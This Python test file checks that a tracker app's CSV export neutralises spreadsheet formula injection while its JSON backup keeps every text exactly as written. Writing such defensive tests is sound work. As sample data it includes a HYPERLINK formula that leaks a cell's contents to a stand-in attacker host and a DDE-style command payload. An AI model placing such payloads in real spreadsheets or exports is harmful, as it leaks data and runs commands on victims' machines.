"""CSV export against formula injection (OWASP): a name like ``=HYPERLINK(...)`` must open
in a spreadsheet as the text it is, while the JSON backup keeps every text as written."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from tracker.backup import make_backup, restore_backup
from tracker.exports import ENCODING, export_csv, neutralise_formulas
from tracker.store import open_store

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def live_formula(cell: str) -> bool:
    """How a spreadsheet reads a cell: a leading ``'`` makes it text; otherwise a cell
    starting with a trigger (leading tabs, returns and spaces are skipped by some) is a
    formula unless it reads as a plain number, like ``-3`` or ``+2.5``."""
    if cell.startswith("'"):
        return False
    stripped = cell.lstrip("\t\r ")
    if not cell.startswith(TRIGGERS) and not stripped.startswith(TRIGGERS):
        return False
    try:
        float(stripped)
    except ValueError:
        return True
    return False


def cells(files: dict[str, bytes]) -> list[str]:
    found = []
    for data in files.values():
        rows = list(csv.reader(io.StringIO(data.decode(ENCODING), newline="")))
        for row in rows[1:]:
            found.extend(row)
    return found


# Text people could type, each starting with what a spreadsheet takes as a formula.
formula_text = st.builds(
    lambda start, rest: start + rest,
    st.sampled_from(["=", "+", "-", "@", "=cmd|' /C calc'!", "@SUM(", "-2+3"]),
    st.text(
        alphabet=st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")),
        min_size=1,
        max_size=14,
    ).filter(lambda t: t.strip() == t and t),
)

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'


def hostile_journal(store, texts: list[str]):
    journal = store.journal(store.add_person("Sam").id)
    name, category, note, title, unit, reason, setback = texts
    walk = journal.add_activity(name, category=category, times=3, per_days=7)
    journal.add_checkin("2025-03-02", 4, note, activities=[walk.id])
    journal.add_checkin("2025-03-01", 2, HYPERLINK, activities=["-1 walk"])
    goal = journal.add_goal(
        title, unit=unit, target_type="at_most", target_value=2, times=1, per_days=1
    )
    journal.log_goal(goal.id, "2025-03-01", "amount", amount=3)
    journal.log_goal(goal.id, "2025-03-02", "skipped", reason=reason)
    journal.add_setback("2025-03-01", setback, "@home", "+call a friend")
    return journal


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(formula_text, min_size=7, max_size=7, unique=True))
def test_no_exported_cell_is_a_live_formula(texts):
    with tempfile.TemporaryDirectory() as folder, open_store(Path(folder) / "t.db") as store:
        journal = hostile_journal(store, texts)
        files = export_csv(journal)
    exported = cells(files)
    assert [cell for cell in exported if live_formula(cell)] == []
    # Each hostile text is still there, whole, after its quote.
    for text in [*texts, HYPERLINK, "-1 walk", "@home", "+call a friend"]:
        assert "'" + text in exported


def test_numbers_stay_numbers_and_plain_text_is_untouched():
    frame = pd.DataFrame(
        {
            "amount": [-3.5, 2.0],
            "times": pd.array([-1, 4], dtype="Int64"),
            "name": ["Walk", "-3"],
            "note": [None, "fine = good"],
        }
    )
    out = neutralise_formulas(frame)
    assert out["amount"].tolist() == [-3.5, 2.0]
    assert out["times"].tolist() == [-1, 4]
    # "-3" typed as a name is text: a spreadsheet would still compute it, so it is quoted.
    assert out["name"].tolist() == ["Walk", "'-3"]
    assert out["note"].tolist()[1] == "fine = good"
    assert pd.isna(out["note"].tolist()[0])


def test_the_backup_keeps_every_text_as_written_and_round_trips(tmp_path):
    texts = ["=1+1", "+body", "-note", "@goal", "=unit", "-reason", "=HYPERLINK(x)"]
    with open_store(tmp_path / "a.db") as store:
        journal = hostile_journal(store, texts)
        before = make_backup(journal)
        export_csv(journal)  # exporting changes nothing stored
        assert make_backup(journal) == before
        assert {a["name"] for a in before["activities"]} == {"=1+1", "-1 walk"}
        assert {c["note"] for c in before["checkins"]} == {"-note", HYPERLINK}
        files = export_csv(journal)
    with open_store(tmp_path / "b.db") as other:
        restored = restore_backup(other, before)
        again = make_backup(restored)
        assert export_csv(restored) == files
    for key in ("activities", "checkins", "goals", "setbacks"):
        assert again[key] == before[key]
